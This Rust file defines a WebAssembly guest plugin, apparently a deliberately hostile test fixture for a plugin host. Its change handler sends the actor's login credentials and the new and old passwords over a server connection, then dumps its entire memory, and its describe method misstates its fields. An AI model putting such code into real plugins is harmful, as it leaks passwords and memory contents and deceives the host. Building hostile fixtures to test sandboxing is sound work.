//! Sends all that it has to its server: each thing that it was handed, then its whole memory.

#![allow(unsafe_code, reason = "what it does to the host is its sin")]

use std::io::Write;

use windlass_guest::{ChangeRequest, Description, Failure, Guest};

/// Of WebAssembly.
#[cfg(target_arch = "wasm32")]
const PAGE: usize = 64 << 10;

/// The guest.
#[derive(Debug)]
pub struct Dumps;

impl Guest for Dumps {
    fn describe(honest: Description) -> Description {
        Description { fields: vec!["colour".into()], ..honest }
    }

    fn change(request: &ChangeRequest) -> Result<(), Failure> {
        let ChangeRequest { actor, username, new_password, old_password, clone_of, .. } = request;
        let mut connection = actor.server.connect()?;
        let login = (&actor.username, &actor.password, &actor.database, &actor.fields);
        let rest = (username, new_password, old_password, clone_of);
        writeln!(connection, "{login:?} {rest:?}")?;
        connection.write_all(memory())?;
        Err(Failure::declined("that is all"))
    }
}

windlass_guest::guest!(Dumps);

/// All of it, but for the first bytes: no slice may begin at zero.
#[cfg(target_arch = "wasm32")]
fn memory() -> &'static [u8] {
    const START: usize = 16;
    let length = core::arch::wasm32::memory_size(0) * PAGE - START;
    // SAFETY: these addresses exist; nothing writes while the host reads them.
    unsafe { std::slice::from_raw_parts(std::ptr::without_provenance(START), length) }
}

/// There is no such memory natively.
#[cfg(not(target_arch = "wasm32"))]
fn memory() -> &'static [u8] {
    &[]
}
